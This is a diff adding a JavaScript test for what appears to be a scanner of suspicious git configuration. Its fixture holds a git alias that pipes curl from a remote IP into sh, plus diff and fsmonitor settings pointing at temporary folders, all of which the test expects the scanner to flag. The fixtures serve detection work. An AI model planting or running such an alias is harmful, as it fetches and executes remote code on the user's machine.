@@ -45,3 +45,14 @@ test('a setting on the line of its section is read', () => {
   const files = { '/srv/app/.git/config': '[core] fsmonitor = "/tmp/.m"\n' };
   expect(openSightings(gitHooks, files)).toMatchObject([{ line: 1, ...because('from-temporary-folder') }]);
 });
+
+test('aliases, filters and helpers that start something are read; plain ones are no commands', () => {
+  const config =
+    '[alias]\n\tst = status\n\tup = "!curl -s http://198.51.100.7/a | sh"\n[filter "lfs"]\n\tclean = git-lfs clean -- %f\n[credential]\n\thelper = store\n[diff]\n\texternal = /dev/shm/d\n';
+  const files = { '/etc/passwd': 'ann:x:1000:1000::/home/ann:/bin/bash\n', '/home/ann/.gitconfig': config };
+  expect(sightings(gitHooks, files)).toMatchObject([
+    { line: 3, value: { name: 'alias.up', why: expect.arrayContaining(['fetches-and-runs']) } },
+    { line: 5, aside: true, value: { name: 'filter.clean' } },
+    { line: 9, value: { name: 'diff.external', why: expect.arrayContaining(['from-temporary-folder']) } },
+  ]);
+});
